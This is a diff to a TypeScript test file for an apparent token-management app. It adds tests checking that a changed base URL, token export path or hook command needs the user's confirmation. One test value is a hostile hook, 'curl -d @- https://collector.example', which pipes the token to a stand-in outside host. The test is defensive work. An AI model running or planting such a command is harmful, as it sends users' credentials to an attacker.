@@ -53,9 +53,16 @@ function ports(): AppPorts {
     applyShortcut: () => null,
     hidePopover: () => undefined,
     quit: () => undefined,
+    confirm: (request) => {
+      confirmations.push(request);
+      return Promise.resolve(confirmAnswer);
+    },
     platform: 'linux',
   };
 }
+
+let confirmations: Array<{ message: string; detail: string }> = [];
+let confirmAnswer = true;
 
 /** A fetch that waits at a gate (when one is set) before talking to the simulator. */
 const gatedFetch: typeof fetch = async (input, init) => {
@@ -90,6 +97,8 @@ beforeEach(async () => {
   backend = new FlakyBackend();
   vault = new Vault(backend);
   gate = null;
+  confirmations = [];
+  confirmAnswer = true;
   signInResult = () => Promise.resolve({ outcome: 'closed' });
   id = uniqueProfileId('ctl');
   store.update((d) => void addProfile(d, { name: id, baseUrl: sim.url }));
@@ -159,5 +168,39 @@ describe('AppController regressions', () => {
     expect(store.get().profiles[0]!.export.filePath).toBe('~/torus/token.txt');
     await ctl.updateProfile({ profileId: id, exportFilePath: ' ' });
     expect(store.get().profiles[0]!.export.filePath).toBeNull();
+  });
+});
+
+describe("changes a compromised popover could abuse need the user's approval outside it", () => {
+  it('a non-Torus base URL, a token file or a hook command asks once; declined changes nothing', async () => {
+    const ctl = controller();
+    confirmAnswer = false;
+    const before = structuredClone(store.get().profiles.find((p) => p.id === id));
+    for (const patch of [{ baseUrl: 'https://collector.example' }, { totpBaseUrl: 'https://collector.example' }, { exportFilePath: '~/token.txt' }, { exportHookCommand: 'curl -d @- https://collector.example' }]) {
+      const error = await ctl.updateProfile({ profileId: id, ...patch }).then(
+        () => null,
+        (e: unknown) => e as TorusError,
+      );
+      expect(error?.kind).toBe('invalid-input');
+      expect(error?.message).toMatch(/not confirmed/);
+    }
+    expect(confirmations).toHaveLength(4);
+    expect(confirmations[0]!.detail).toContain('https://collector.example');
+    expect(confirmations[3]!.detail).toContain('curl -d @- https://collector.example');
+    expect(store.get().profiles.find((p) => p.id === id)).toEqual(before);
+
+    confirmAnswer = true;
+    await ctl.updateProfile({ profileId: id, exportHookCommand: 'cat > /dev/null' });
+    expect(store.get().profiles.find((p) => p.id === id)!.export.hookCommand).toBe('cat > /dev/null');
+  });
+
+  it('Torus hosts, loopback and unchanged values need no approval', async () => {
+    const ctl = controller();
+    confirmAnswer = false;
+    await ctl.updateProfile({ profileId: id, baseUrl: 'https://connects.torusdigital.com' });
+    await ctl.updateProfile({ profileId: id, totpBaseUrl: 'https://oapi-cug.torusdigital.com' });
+    await ctl.updateProfile({ profileId: id, baseUrl: sim.url });
+    await ctl.updateProfile({ profileId: id, exportFilePath: null, exportHookCommand: null });
+    expect(confirmations).toHaveLength(0);
   });
 });
